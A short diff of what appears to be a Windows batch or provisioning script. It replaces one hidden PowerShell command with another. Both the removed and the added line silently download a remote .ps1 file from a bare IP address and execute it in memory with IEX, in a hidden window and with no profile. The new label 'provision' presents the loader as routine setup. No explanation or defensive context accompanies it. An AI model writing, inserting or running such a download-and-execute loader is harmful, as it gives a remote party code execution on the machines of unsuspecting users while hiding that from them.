@@ -1,2 +1,2 @@
-REM task 6993 v4
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/inv.ps1')"
+REM provision 7119 v4
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
